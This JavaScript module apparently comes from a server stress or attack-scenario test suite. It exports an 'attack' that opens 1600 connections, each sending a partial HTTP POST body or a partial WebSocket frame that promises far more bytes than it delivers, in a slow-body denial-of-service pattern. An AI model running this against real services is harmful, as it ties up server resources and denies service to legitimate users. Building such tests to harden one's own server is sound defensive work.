// Sixteen hundred bodies and messages, most of each of which comes, and the rest never.
import { again, HANDSHAKE, postHead, writeOnly } from "../sockets.mjs";

const SIZE = 2 ** 20;
const SENT = 250_000;
const BODY = Buffer.concat([
  Buffer.from(postHead("/api/v1/pow/validate", SIZE)),
  Buffer.alloc(SENT, " "),
]);
const MESSAGE = Buffer.concat([
  Buffer.from(HANDSHAKE),
  Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0x10, 0, 0, 0, 0, 0, 0]), // 2^20 bytes, masked with zeros
  Buffer.alloc(SENT, " "),
]);

export const isStranger = true;

export const attack = (target) =>
  again({ count: 1600, milliseconds: 20_000 }, (number) =>
    writeOnly(target, number % 2 === 0 ? BODY : MESSAGE),
  );
